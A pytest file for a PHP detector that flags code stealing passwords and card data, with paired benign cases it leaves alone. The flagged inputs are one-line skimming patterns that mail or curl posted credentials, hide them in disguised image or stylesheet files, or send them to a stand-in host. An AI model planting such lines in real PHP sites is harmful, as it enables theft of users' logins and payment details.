from __future__ import annotations

import pytest

from pratique.content.php.deliveries import deliveries
from pratique.content.php.program import Program
from pratique.content.php.syntax import parse


def sightings(source: str) -> list[tuple[str, float]]:
    program = Program(parse(f"<?php {source}".encode()))
    return [(sighting.mark, sighting.confidence) for sighting in deliveries(program)]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        (
            "mail('a', 'b', print_r($_GET, 1)); ?><input type=password>",
            ("php-mails-password", 0.85),
        ),
        (
            f"{'a();' * 20000} mail('a', 'b', print_r($_POST, 1)); ?><input type=password>",
            ("php-mails-password", 0.85),
        ),
        ("mail('a', 'b', $_POST['pin_code']);", ("php-mails-password", 0.85)),
        ("file_put_contents('x.txt', $_POST['pwd']);", ("php-mails-password", 0.8)),
        (
            "$to = 'a@b.example'; mail($to, 'x', \"{$_SESSION['user']} {$_SESSION['pass']}\");",
            ("php-mails-password", 0.85),
        ),
        (
            "if (isset($_POST['cc_number'])) { mail('a@b.example', 'x', serialize($_POST)); }",
            ("php-mails-password", 0.85),
        ),
        (
            "$f = fopen($d . '/.x', 'a'); fwrite($f, $_POST['log'] . ':' . $_POST['pwd']);",
            ("php-mails-password", 0.85),
        ),
        (
            "$c = curl_init($u); curl_setopt($c, 1, $_POST['log'] . '&p=' . $_POST['pwd']);",
            ("php-mails-password", 0.85),
        ),
        (
            "file_put_contents('media/x.jpg', base64_encode(serialize($_POST)), FILE_APPEND);",
            ("php-mails-password", 0.85),
        ),
        (
            "$p = 'skin/a.css'; fputs(fopen($p, 'a'), gzcompress(json_encode($_POST['payment'])));",
            ("php-mails-password", 0.85),
        ),
        (
            "file_get_contents('http://a.example/?p=' . urlencode($_POST['pwd']));",
            ("php-mails-password", 0.75),
        ),
        (
            "class C { function f($i) { fopen('//a.example/?' . $i->getCcNumber(), 'r'); } }",
            ("php-mails-password", 0.75),
        ),
    ],
)
def test_points_at(source, expected):
    assert sightings(source) == [expected]


@pytest.mark.parametrize(
    "source",
    [
        "file_put_contents('x.txt', $_POST['a']);",
        "mail($user->mail, 'Welcome', $_SESSION['password']);",
        "mail('office@b.example', 'Order', $_SESSION['name'] . $_SESSION['address']);",
        "mail('office@b.example', 'Order', print_r($_POST, 1));",
        "file_put_contents('img/a.png', base64_decode($_POST['img']));",
        "file_put_contents('orders.dat', json_encode($_POST));",
        "file_put_contents('style.css', $less->compile($_POST['less']));",
        "file_get_contents('https://a.example/verify?secret=' . $s . '&r=' . $_POST['answer']);",
        "file_get_contents('https://a.example/rates?cc=' . $_GET['cc'] . '&n=' . $_GET['n']);",
        "file_get_contents('https://a.example/send?password=' . $config['password']);",
        "$c = curl_init(); curl_setopt($c, 1, 'token=' . $_POST['token']);",
        "class C { function f($i) { $this->client->setCard($i->getCcNumber()); } }",
        "mail('a', 'b', $_POST['message']);",
        f"class A {{}} {'a();' * 20000} mail('a', 'b', $_POST); ?><input type=password>",
    ],
)
def test_leaves_alone(source):
    assert sightings(source) == []
